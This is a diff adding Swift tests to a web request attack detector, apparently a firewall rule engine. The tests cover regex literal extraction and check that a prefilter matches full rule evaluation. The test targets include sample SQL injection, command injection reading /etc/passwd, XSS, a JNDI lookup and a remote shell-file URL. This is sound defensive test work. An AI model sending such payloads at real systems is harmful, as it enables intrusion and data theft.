@@ -233,6 +233,61 @@ func ruleFileError(_ json: String) -> String {
     func regexLiteralExtraction(_ pattern: String, _ expected: String?) {
         #expect(RegexLiteral.required(in: pattern) == expected)
     }
+
+    @Test(arguments: [
+        ("(sleep|benchmark)\\s*\\(", ["benchmark", "sleep"] as [String]?),
+        ("['\"`]\\s*(or|and)\\s", ["and", "or"]),
+        ("['\"`]\\s*--", ["--"]),
+        ("['\"]\\s*[=<>]", ["\"", "'"]),
+        ("(a|b)?cd", ["cd"]),
+        ("x(ab|c?)y", ["x"]),  // either side alone is certain; the first of equals is kept
+        ("\\x41BC", ["abc"]),
+        ("\\p{L}+", nil),
+        ("\\p{L}{2}xyz", ["xyz"]),
+        ("(?x) a b", nil),
+        ("\\Qa|b\\E", nil),
+        ("[^a]bc", ["bc"]),
+        ("[a-z]+", nil),
+        ("(?=foo)bar", ["bar"]),
+        ("ab{2,}c", ["ab"]),
+        ("\\$\\{", ["${"]),
+    ])
+    func regexRequirementSets(_ pattern: String, _ expected: [String]?) {
+        #expect(RegexLiteral.requiredSet(in: pattern)?.map { String(decoding: $0, as: UTF8.self) } == expected, "\(pattern)")
+    }
+
+    /// The prefilter may only skip rules that cannot match: over attacks and ordinary
+    /// requests, the default rules give the same verdicts with it and without it.
+    @Test func prefilterAgreesWithFullEvaluation() throws {
+        let rules = try RuleFile.load(path: TestPaths.packageRoot.appendingPathComponent("rules.json").path)
+        let filtered = try RuleSet(rules: rules)
+        let full = try RuleSet(rules: rules, usePrefilter: false)
+        var targets = ["/a?id=1' or '1'='1", "/a?id=1 union/**/select 1", "/x?f=../../etc/passwd", "/?cmd=;cat /etc/passwd",
+                       "/q?c=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "/p?x=${jndi:ldap://e/a}", "/page?name=O'Brien",
+                       "/s?q=select+your+plan", "/a?u=http://evil/shell.txt?", "/a?q=1;sleep(5)--", "/a?q=%27%20AND%20SLEEP(5)%23",
+                       "/a?x=`id`", "/a?x=$(whoami)", "/a?t=&#x3c;script", "/b?q=waitfor delay '0:0:5'", "/index.html"]
+        for name in ["badqueries.txt", "goodqueries.txt"] {
+            for directory in ["Dataset", "../shared/Dataset"] {
+                let path = TestPaths.packageRoot.appendingPathComponent(directory).appendingPathComponent(name).path
+                guard let text = try? String(contentsOfFile: path, encoding: .utf8) else { continue }
+                targets += text.split(whereSeparator: \.isNewline).prefix(3_000).map { $0.hasPrefix("/") ? String($0) : "/" + $0 }
+                break
+            }
+        }
+        let scratch = DetectionScratch()
+        var disagreements: [String] = []
+        var alerts = 0
+        for target in targets {
+            let r = request(target, headers: [("Host", "h"), ("User-Agent", "Mozilla/5.0"), ("Cookie", "q=" + target), ("Referer", "http://h" + target)],
+                            body: String(target.drop { $0 != "?" }.dropFirst()))
+            let a = filtered.evaluate(r, scratch: scratch).map(\.rule.id)
+            let b = full.evaluate(r, scratch: scratch).map(\.rule.id)
+            alerts += b.count
+            if a != b { disagreements.append("\(target): \(a) vs \(b)") }
+        }
+        #expect(disagreements.isEmpty, "\(disagreements.prefix(5))")
+        #expect(alerts > 0)
+    }
 }
 
 @Suite struct RuleFileErrorTests {
